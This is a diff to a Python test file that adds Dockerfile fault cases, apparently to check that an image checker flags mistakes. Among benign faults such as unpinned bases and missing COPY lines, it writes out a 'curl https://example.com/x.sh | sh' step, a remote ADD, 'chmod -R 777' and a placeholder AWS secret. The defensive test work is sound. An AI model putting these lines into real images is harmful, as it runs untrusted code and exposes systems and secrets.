@@ -352,6 +352,39 @@ IMAGE_FAULTS = (
         "FROM runtime AS cf\n",
         "FROM runtime AS cf\nRUN apt-get install --yes clang\n",
     ),
+    ImageFault("a program is not found", "ENV PATH=/opt/marquee/bin:$PATH ", "ENV "),
+    ImageFault(
+        "packages are copied elsewhere",
+        "COPY --from=cf-build /opt/marquee /opt/marquee",
+        "COPY --from=cf-build /opt/marquee /opt/cf",
+    ),
+    ImageFault("an image holds a secret", "ENV PATH", "ENV AWS_SECRET_ACCESS_KEY=x PATH"),
+    ImageFault(
+        "a file comes from somewhere else",
+        "FROM runtime AS cf\n",
+        "FROM runtime AS cf\nADD https://example.com/x.sh /x.sh\n",
+    ),
+    ImageFault(
+        "a script is downloaded and run",
+        "FROM python AS build\n",
+        "FROM python AS build\nRUN curl https://example.com/x.sh | sh\n",
+    ),
+    ImageFault(
+        "everybody may write",
+        "FROM runtime AS cf\n",
+        "FROM runtime AS cf\nRUN chmod -R 777 /opt\n",
+    ),
+    ImageFault("the base is whatever is latest", "python:3.11-slim@", "python:latest@"),
+    ImageFault("the base has an old Python", "python:3.11-slim@", "python:3.9-slim@"),
+    ImageFault("there is no wheel to install", "COPY --from=wheel /wheels /wheels\n", ""),
+    ImageFault(
+        "there is no script to run", "COPY deploy/images/install.sh /build/install.sh\n", ""
+    ),
+    ImageFault(
+        "an image holds another's packages, too",
+        _INSTALL,
+        "RUN /build/install.sh inference,gateway",
+    ),
     ImageFault("a tool is not pinned", "build==1.3.0", "build"),
     ImageFault(
         "an image holds the source tree", "FROM runtime AS cf\n", "FROM runtime AS cf\nCOPY . .\n"
